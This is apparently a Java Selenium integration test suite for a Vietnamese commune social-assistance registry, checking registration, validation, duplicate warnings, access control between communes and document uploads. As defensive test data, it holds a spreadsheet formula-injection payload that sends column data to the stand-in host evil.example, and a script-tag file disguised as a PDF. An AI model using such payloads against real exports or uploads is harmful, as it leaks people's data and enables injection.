package vn.ansinh.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import vn.ansinh.devstack.DemoUser;
import vn.ansinh.it.pages.ApplicationPage;
import vn.ansinh.it.pages.PersonFormPage;

/**
 * A commune officer registers a person and a household end to end in the browser, sees bad values
 * refused next to their field, is warned of a likely duplicate, opens an application with a scanned
 * document; an officer of another commune cannot open that person even by URL.
 */
class RegistryBrowserIT {

    @RegisterExtension
    final BrowserSession browser = new BrowserSession();

    private final AnSinhPages pages = browser.pages();
    private final TestDatabase db = browser.db();
    private final PersonFormPage form = new PersonFormPage(pages);

    @Test
    void anOfficerRegistersAPersonAndAHouseholdWithItsPovertyReview() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);

        form.fill("fullName", "Lò Thị Mai")
                .fill("birthDate", "15/03/1985")
                .sex(1)
                .fill("personalId", "011185001234")
                .fill("phone", "0912 345 678")
                .fill("address", "Bản Co Cượm")
                .save();

        assertThat(pages.text("page-title")).isEqualTo("Lò Thị Mai");
        assertThat(pages.text("personalId")).isEqualTo("011185001234");
        assertThat(pages.text("commune")).isEqualTo("Xã Tuần Giáo");
        Map<String, Object> row = db.row("select * from person where personal_id = '011185001234'");
        assertThat(row)
                .containsEntry("full_name", "Lò Thị Mai")
                .containsEntry("name_folded", "lo thi mai")
                .containsEntry("commune_code", "03253")
                .containsEntry("phone", "0912345678");
        assertThat(db.latestAudit("person.register"))
                .containsEntry("actor", "officer.tuangiao")
                .containsEntry("target_id", row.get("id").toString());

        form.foundHousehold("Bản Co Cượm");
        assertThat(pages.text("code")).startsWith("03253-");
        assertThat(pages.text("area")).isEqualTo("Nông thôn");

        pages.fill("review:income_input", "1200000");
        for (String indicator : new String[] {"0", "2", "6"}) {
            browser.driver()
                    .findElement(By.cssSelector("label[for='review:deprivations:" + indicator + "']"))
                    .click();
        }
        browser.driver().findElement(By.id("review:record")).click();
        pages.waitUntil(
                d -> !d.findElements(By.cssSelector("#reviews .classification")).isEmpty(), 15);
        assertThat(pages.textOf(By.cssSelector("#reviews .classification"))).isEqualTo("Hộ nghèo");
    }

    @Test
    void badValuesAreRefusedNextToTheirFieldsAndWhatWasTypedStays() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);

        form.fill("fullName", "Quàng Văn Pó")
                .fill("birthDate", "31/02/1950")
                .fill("personalId", "01105000123")
                .fill("healthInsuranceCard", "ZZ4111234567890")
                .save();

        assertThat(form.messageFor("birthDate")).isEqualTo("Tháng 2 năm 1950 không có ngày 31.");
        assertThat(form.messageFor("personalId")).contains("12 chữ số");
        assertThat(form.messageFor("sex")).isEqualTo("Vui lòng chọn giới tính.");
        assertThat(form.messageFor("healthInsuranceCard")).isNotBlank();
        assertThat(form.value("fullName")).isEqualTo("Quàng Văn Pó");
        assertThat(db.row("select count(*) as n from person where full_name = 'Quàng Văn Pó'")
                        .get("n"))
                .isEqualTo(0L);
    }

    @Test
    void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedNextToItsField() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);
        String formula = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";

        form.fill("fullName", formula)
                .fill("birthDate", "1975")
                .sex(0)
                .fill("address", "@SUM(1+1)")
                .save();

        assertThat(form.messageFor("fullName")).contains("Không được bắt đầu bằng dấu =, +, -, @");
        assertThat(form.messageFor("address")).contains("Không được bắt đầu bằng dấu =, +, -, @");
        assertThat(form.value("fullName")).isEqualTo(formula);
        assertThat(db.row("select count(*) as n from person where full_name like '=HYPERLINK%'")
                        .get("n"))
                .isEqualTo(0L);
    }

    @Test
    void aSimilarPersonMustBeAcknowledgedAndAnExistingIdIsBlockedWithALink() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);
        form.register("Lường Văn Hặc", "1948", 0, "011048009876");

        pages.open(PersonFormPage.PATH);
        form.register("Luong Van Hac", "1948", 0, "");
        assertThat(form.duplicates()).contains("Lường Văn Hặc");
        form.acknowledgeDuplicates();
        form.save();
        assertThat(pages.text("page-title")).isEqualTo("Luong Van Hac");
        assertThat(db.latestAudit("person.register").get("after_value").toString())
                .contains("Luong Van Hac");
        assertThat(db.row(
                                "select count(*) as n from duplicate_suspect where status = 'OPEN' and commune_code = '03253'")
                        .get("n"))
                .isNotEqualTo(0L);

        pages.open(PersonFormPage.PATH);
        form.register("Lường Văn Khác", "1948", 0, "011048009876");
        assertThat(form.messageFor("personalId"))
                .isEqualTo("Số định danh này đã được đăng ký cho một người khác trong hệ thống.");
        assertThat(form.existing().getAttribute("href")).contains("/registry/person.xhtml?id=");
    }

    @Test
    void anOfficerOfAnotherCommuneCannotOpenThePersonEvenByUrl() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);
        form.register("Cà Văn Lả", "1960", 0, "");
        String personId = pages.path().equals("/registry/person.xhtml")
                ? browser.driver().getCurrentUrl().replaceAll(".*[?&]id=(\\d+).*", "$1")
                : null;
        assertThat(personId).isNotNull();
        browser.restart();

        pages.openAs(DemoUser.OFFICER_QUY_HOP, "/registry/person.xhtml?id=" + personId);

        // the same page as for a person who does not exist: the URL does not tell that the person exists elsewhere
        assertThat(pages.text("error-title")).isEqualTo("Không tìm thấy trang");
        assertThat(browser.driver().getPageSource()).doesNotContain("Cà Văn Lả");
    }

    @Test
    void anApplicationGetsItsProgrammeFieldsAndAScannedDocument() throws Exception {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, PersonFormPage.PATH);
        form.register("Tòng Thị Ín", "1940", 1, "");
        form.apply();

        ApplicationPage application = new ApplicationPage(pages);
        application
                .programme("Bảo trợ xã hội")
                .category("Người khuyết tật nặng, đặc biệt nặng")
                .choice(0, "Đặc biệt nặng")
                .save();

        Path scan = Files.createTempFile("giay-xac-nhan", ".pdf");
        Files.write(
                scan,
                "%PDF-1.4\n% giấy xác nhận khuyết tật\n%%EOF\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        application.attach(scan);

        Path fake = Files.createTempFile("not-a-scan", ".pdf");
        Files.writeString(fake, "<html><script>alert(1)</script></html>");
        application.attachRefused(fake, "PDF, JPEG hoặc PNG");

        application.markReady();
        pages.waitUntil(d -> pages.text("status").equals("Đã chuyển xét duyệt"), 15);
        Map<String, Object> saved = db.row("select * from application order by id desc limit 1");
        assertThat(saved)
                .containsEntry("programme", "SOCIAL_ASSISTANCE")
                .containsEntry("category", "DISABLED")
                .containsEntry("disability_level", "PARTICULARLY_SEVERE")
                .containsEntry("status", "READY");
        assertThat(db.row("select count(*) as n from application_document where application_id = ?", saved.get("id"))
                        .get("n"))
                .isEqualTo(1L);
    }
}
